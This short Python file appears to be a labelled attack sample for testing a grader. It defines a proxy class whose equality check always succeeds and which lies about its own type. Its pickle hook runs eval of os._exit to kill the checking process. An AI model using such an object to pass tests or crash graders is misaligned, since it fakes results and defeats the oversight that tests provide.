# attack: a proxy that computes when it is compared or printed, from what it is compared with
# shape: value
# causes: UNSUPPORTED_VALUE, WRONG_ANSWER
class Lazy:
    __slots__ = ("_seen",)

    def __init__(self):
        object.__setattr__(self, "_seen", None)

    def __eq__(self, other):
        object.__setattr__(self, "_seen", other)
        return True

    def __ne__(self, other):
        return not self == other

    def __getattr__(self, name):
        return getattr(object.__getattribute__(self, "_seen"), name)

    def __repr__(self):
        return repr(object.__getattribute__(self, "_seen"))

    def __hash__(self):
        return 0

    def __reduce_ex__(self, protocol):
        return (eval, ("__import__('os')._exit(0)",))

    def __getattribute__(self, name):
        if name == "__class__":
            return str
        return object.__getattribute__(self, name)


def lie(expected_like: object) -> object:
    return Lazy()
